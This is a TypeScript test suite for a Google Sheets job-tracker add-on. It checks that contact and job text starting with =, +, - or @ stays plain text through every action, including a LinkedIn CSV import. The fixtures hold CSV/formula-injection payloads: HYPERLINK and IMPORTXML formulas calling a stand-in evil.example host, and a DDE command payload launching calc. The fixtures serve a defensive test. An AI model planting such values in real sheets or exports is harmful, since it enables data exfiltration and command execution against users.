// No user text is ever written to a cell as a formula: a tracker whose every text starts with =, +,
// - or @ goes through every action (Score, follow-ups, an edit, Mark as sent, Save call guide, the
// import, the Dashboard, the daily run) and ends with no formula anywhere, the texts copied as text.
import type { LoadedBundle } from '../helpers/bundle';
import { loadBundle } from '../helpers/bundle';
import { colOf, sheetOf, writeRows } from '../helpers/sheets';
import { daysAgo, NOW, setSettings } from '../helpers/trackers';

const EVIL = {
  company: '=HYPERLINK("http://evil.example","Acme")',
  name: '+Ann Archer',
  title: '-Senior Data Scientist',
  common: '@Lyon; =chess',
  mutual: '=IMPORTXML("http://evil.example","//a")',
  job: '=Data Scientist',
  process: '@Form then =CV',
};

/** How a user types text that starts like a formula: with a leading apostrophe. */
function typed(rows: Record<string, unknown>[]): Record<string, unknown>[] {
  return rows.map((r) =>
    Object.fromEntries(
      Object.entries(r).map(([k, v]) => [k, typeof v === 'string' && /^[=+\-@]/.test(v) ? `'${v}` : v]),
    ),
  );
}

function evilTracker(): LoadedBundle {
  const b = loadBundle({ now: NOW });
  b.call('menuSetUpTracker');
  writeRows(
    b,
    'Jobs',
    typed([
      {
        Company: EVIL.company,
        Job: EVIL.job,
        Apply: 'After referral',
        Outcome: 'Offer',
        'Outcome on': daysAgo(b, 1),
      },
    ]),
  );
  writeRows(
    b,
    'Contacts',
    typed([
      {
        Company: EVIL.company,
        Job: EVIL.job,
        Name: EVIL.name,
        Title: EVIL.title,
        Degree: '2nd',
        'In common': EVIL.common,
        'Mutual connection': EVIL.mutual,
        Status: 'To contact',
      },
      {
        Company: EVIL.company,
        Job: EVIL.job,
        Name: '=2+3',
        Title: '@mention',
        Degree: '1st',
        Status: 'Referred',
        'Referred on': daysAgo(b, 4),
        'Call on': daysAgo(b, 5, 10),
      },
      {
        Company: EVIL.company,
        Job: EVIL.job,
        Name: '-Cy',
        Title: '+PM',
        Degree: '4th',
        Status: 'To contact',
      },
    ]),
  );
  setSettings(b, { 'Your name': "'=Sam", 'Daily digest email': 'Yes' });
  return b;
}

/** Every formula of the workbook, as `Sheet!A1: formula`. */
function formulas(b: LoadedBundle): string[] {
  return b.emu.spreadsheet.toJSON().sheets.flatMap((s) =>
    Object.entries(s.cells)
      .filter(([, c]) => c.formula !== undefined)
      .map(([a1, c]) => `${s.name}!${a1}: ${c.formula}`),
  );
}

/** Every text value of the workbook that starts like a formula, by sheet. */
function formulaLikeTexts(b: LoadedBundle): Record<string, string[]> {
  const out: Record<string, string[]> = {};
  for (const s of b.emu.spreadsheet.toJSON().sheets) {
    for (const c of Object.values(s.cells)) {
      if (typeof c.value !== 'string' || !/^[=+\-@]/.test(c.value)) continue;
      out[s.name] = [...(out[s.name] ?? []), c.value];
    }
  }
  return out;
}

describe('user text written by the add-on', () => {
  it('stays text through every action: no formula anywhere, the =+-@ texts copied as they are', () => {
    const b = evilTracker();
    expect(formulas(b)).toEqual([]);
    b.call('menuScoreCandidates');
    b.call('menuRefreshFollowUps');
    const sheet = sheetOf(b, 'Contacts');
    sheet.getRange(4, colOf(b, 'Status')).setValue('Messaged');
    const raw = b.emu.spreadsheet.sheets.find((s) => s.name === 'Contacts')!;
    b.call('onEdit', {
      range: raw.rangeAt(4, colOf(b, 'Status')).self,
      source: b.emu.spreadsheet.self,
      value: 'Messaged',
      oldValue: 'To contact',
    });
    const d = b.call<{ fingerprint: string }>('sidebarDraft', 2, 'first-inmail');
    b.call('sidebarMarkSent', 2, 'first-inmail', d.fingerprint, true);
    b.call('sidebarSaveCallGuide', 3, EVIL.process, 'After referral');
    b.call(
      'importConnections',
      [
        'First Name,Last Name,URL,Email Address,Company,Position,Connected On',
        `"=cmd|' /C calc'!A0",@Evil,https://www.linkedin.com/in/evil,,"${EVIL.company.replace(/"/g, '""')}",-2+3,04 Mar 2026`,
        '+Dee,=Dunn,https://www.linkedin.com/in/dee,,Umbrella,@Chemist,05 Mar 2026',
      ].join('\n'),
    );
    b.call('menuRefreshDashboard');
    b.call('dailyReminder', { authMode: 'FULL', triggerUid: '1' });
    b.emu.endExecution();

    expect(formulas(b)).toEqual([]);
    const texts = formulaLikeTexts(b);
    // Copied as text where the add-on writes user text: Activity, Why, the Dashboard, Jobs, Contacts, Connections.
    expect(texts.Activity).toEqual(expect.arrayContaining([EVIL.company, EVIL.name, '-Cy']));
    expect(texts.Jobs).toEqual(expect.arrayContaining([EVIL.process]));
    expect(texts.Dashboard).toEqual(expect.arrayContaining([EVIL.company]));
    expect(texts.Connections).toEqual(
      expect.arrayContaining(["=cmd|' /C calc'!A0", '@Evil', '+Dee', '=Dunn', '-2+3', '@Chemist']),
    );
    expect(texts.Contacts).toEqual(expect.arrayContaining(["=cmd|' /C calc'!A0 @Evil"]));
  });
});
